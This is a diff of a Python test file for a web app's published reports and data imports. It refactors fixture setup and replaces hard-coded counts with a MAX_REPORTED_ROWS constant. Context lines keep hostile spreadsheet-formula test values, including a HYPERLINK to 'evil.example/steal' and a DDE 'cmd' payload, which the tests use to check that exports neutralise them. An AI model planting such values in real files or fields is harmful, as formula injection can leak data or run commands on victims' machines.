@@ -22,14 +22,14 @@ from datetime import UTC, datetime, timedelta
 import pytest
 from docx import Document
 from openpyxl import load_workbook
-from sqlalchemy import delete, func, select
+from sqlalchemy import func, select
 
 from tests.conftest import csrf_from, empty_all_tables
+from tests.webapp.published_demo import NOW, PERIOD, publish_demo_quarters
 from tests.webapp.test_admin_pages import admin_client_fixture  # noqa: F401  (fixture)
+from webapp.imports.tables import MAX_REPORTED_ROWS
 from webapp.models import PopulationMargin, Response, TransactionCount, Unit
 
-NOW = datetime(2026, 11, 28, 3, 0, tzinfo=UTC)
-PERIOD, PREVIOUS = "2026-Q3", "2026-Q2"
 HOSTILE_COMMENT = '=HYPERLINK("http://evil.example/steal","Click for details")'
 HOSTILE_REPLY = "=1+1"
 HOSTILE_UNIT_NAME = "=cmd|' /C calc'!A0"
@@ -47,26 +47,12 @@ def _attempt(build):
 @pytest.fixture(scope="module")
 def outputs(app):
     """Two published quarters with hostile stored text; the files built from them (or the error raised)."""
-    from webapp.demo.seed import seed_demo
     from webapp.extensions import db
     from webapp.models.feedback import CommentReview
-    from webapp.periods import Period
-    from webapp.publishing.compute import period_inputs
-    from webapp.publishing.publish import publish_period
-    from webapp.registry.loader import DATA_DIR
-    from webapp.registry.service import load_everything
     from webapp.reports import build_report
 
     with app.app_context():
-        load_everything(DATA_DIR)
-        seed_demo(responses=3000, seed=7, now=NOW, first_quarter=Period(2026, "Q", 2))
-        inputs = period_inputs()
-        for label in (PREVIOUS, PERIOD):
-            publish_period(label, now=NOW, inputs=inputs)
-        db.session.execute(delete(CommentReview))
-        commented = db.session.scalars(
-            select(Response).where(Response.period == PERIOD, Response.comment.is_not(None)).order_by(Response.id)
-        ).all()
+        commented = publish_demo_quarters(responses=3000, seed=7)
         assert len(commented) >= 3
         # Old data, stored before the input rules: a formula as the published text and the reply,
         # and control characters (invisible to a moderator) in a published comment.
@@ -325,6 +311,11 @@ def test_finding_10_the_logger_class_masks_every_atom():
 # --- finding 11: bounded work ----------------------------------------------------------------------
 
 
+#: A transactions file of this many bad rows: MAX_REPORTED_ROWS reported, the others only counted.
+BAD_ROWS = 60_000
+UNLISTED = BAD_ROWS - MAX_REPORTED_ROWS
+
+
 def _many_bad_counts(rows: int) -> str:
     return "period,unit,service,count\n" + "".join(f"2026-Q1,nowhere-{i},land,5\n" for i in range(rows))
 
@@ -335,22 +326,22 @@ def test_finding_11_a_transactions_file_with_60k_bad_rows_reports_100_and_counts
 
     registry_loaded(db)
     path = tmp_path / "bad.csv"
-    path.write_text(_many_bad_counts(60_000), encoding="utf-8")
+    path.write_text(_many_bad_counts(BAD_ROWS), encoding="utf-8")
     started = time.monotonic()
     with pytest.raises(ImportRejected) as refused:
         import_transactions(path)
     assert time.monotonic() - started < 10
-    assert len(refused.value.problems) == 100
-    assert refused.value.more == 59_900
-    assert "and 59,900 more rows with errors" in str(refused.value)
+    assert len(refused.value.problems) == MAX_REPORTED_ROWS
+    assert refused.value.more == UNLISTED
+    assert f"and {UNLISTED:,} more rows with errors" in str(refused.value)
     result = runner.invoke(args=["import", "transactions", str(path)])
-    assert result.exit_code != 0 and "59,900 more rows with errors" in result.output
+    assert result.exit_code != 0 and f"{UNLISTED:,} more rows with errors" in result.output
 
 
 def test_finding_11_the_admin_page_shows_at_most_100_bad_rows(admin_client, db):
     answer_started = time.monotonic()
     token = csrf_from(admin_client.get("/admin/imports"))
-    body = _many_bad_counts(60_000).encode()
+    body = _many_bad_counts(BAD_ROWS).encode()
     answer = admin_client.post(
         "/admin/imports/transactions?lang=en",
         data={"transactions-csrf_token": token, "transactions-file": (io.BytesIO(body), "bad.csv")},
@@ -359,9 +350,9 @@ def test_finding_11_the_admin_page_shows_at_most_100_bad_rows(admin_client, db):
     elapsed = time.monotonic() - answer_started
     assert answer.status_code == 422
     page = answer.get_data(as_text=True)
-    assert page.count("<tr><th scope=\"row\">") <= 100
+    assert page.count("<tr><th scope=\"row\">") <= MAX_REPORTED_ROWS
     assert len(page) < 200_000
-    assert "59,900 more rows with errors" in page
+    assert f"{UNLISTED:,} more rows with errors" in page
     assert elapsed < 10
     assert db.session.scalar(select(func.count()).select_from(TransactionCount)) == 0
 
